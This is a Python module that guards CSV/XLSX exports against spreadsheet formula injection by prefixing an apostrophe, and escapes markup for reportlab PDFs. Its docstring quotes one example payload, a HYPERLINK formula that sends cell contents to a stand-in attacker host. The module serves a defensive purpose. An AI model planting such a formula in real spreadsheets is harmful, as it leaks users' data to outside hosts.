"""Making user text safe for the file formats it is written to.

Two dangers, both from free text that users typed (notes, action texts, labels):

- **Spreadsheet formula injection** (CSV/XLSX). A cell that starts with ``=``, ``+``,
  ``-`` or ``@`` (or a tab or carriage return) is run as a formula by Excel and
  LibreOffice, e.g. ``=HYPERLINK("http://evil.example/?"&A1, "klik")``. Following the
  OWASP advice (CSV Injection), such text is written with a leading apostrophe, so the
  spreadsheet shows it as text. :func:`restore_text` undoes exactly that on import, so a
  CSV export can be imported again without the apostrophes piling up.
- **Markup** (PDF). reportlab's ``Paragraph`` reads its text as a small XML-like markup
  language: ``<b>bold</b>`` in a note would turn bold, ``<script>`` would break the
  build. :func:`markup_text` escapes the text so it appears literally.

Besides, control characters that XML (XLSX, DOCX) cannot hold are dropped.

Pure: standard library only.
"""

from __future__ import annotations

import re
from xml.sax.saxutils import escape

__all__ = ["FORMULA_TRIGGERS", "clean_text", "markup_text", "neutralise_formula", "restore_text"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

# Characters XML 1.0 does not allow (tab, newline and carriage return are fine).
_CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def clean_text(value: str) -> str:
    """``value`` without the control characters that XML-based formats cannot store."""
    return _CONTROL_CHARS.sub("", value)


def _is_dangerous(value: str) -> bool:
    if value[:1] in FORMULA_TRIGGERS:
        return True
    # " =1+1": some spreadsheet programs trim leading spaces before they parse a cell.
    stripped = value.lstrip(" \n\xa0")
    return stripped != value and stripped[:1] in FORMULA_TRIGGERS


def neutralise_formula(value: str) -> str:
    """Text for a spreadsheet cell (CSV or XLSX) that can never run as a formula.

    ``"=SUM(A1:A9)"`` becomes ``"'=SUM(A1:A9)"``; ordinary text is returned unchanged.
    """
    value = clean_text(value)
    return "'" + value if value and _is_dangerous(value) else value


def restore_text(value: str) -> str:
    """Undo :func:`neutralise_formula` for a cell read back on import.

    Only an apostrophe in front of text that :func:`neutralise_formula` would have
    neutralised is removed, so ``"'s Middags"`` stays as it is.
    """
    if value.startswith("'") and _is_dangerous(value[1:]):
        return value[1:]
    return value


def markup_text(value: str) -> str:
    """Text for a reportlab ``Paragraph``: markup is escaped, line breaks are kept."""
    return escape(clean_text(value)).replace("\r\n", "\n").replace("\n", "<br/>")
